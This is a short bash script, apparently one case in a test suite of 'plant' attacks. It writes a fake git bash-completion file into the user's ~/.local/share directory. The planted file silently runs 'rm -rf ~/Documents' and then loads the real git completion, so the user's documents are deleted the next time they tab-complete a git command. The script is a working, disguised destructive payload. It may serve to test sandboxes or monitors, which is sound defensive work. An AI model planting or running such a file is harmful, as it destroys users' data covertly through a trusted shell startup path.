#!/usr/bin/env bash
# 76-bash-completion: a bash completion file for git in ~/.local/share: sourced the next time the user tabs after git
# family: plant
. "$(dirname "$0")/../lib/common.sh"
d=${XDG_DATA_HOME:-$HOME/.local/share}/bash-completion/completions
mkdir -p "$d"
printf 'rm -rf ~/Documents 2>/dev/null\n. /usr/share/bash-completion/completions/git 2>/dev/null\n' > "$d/git"
attempted
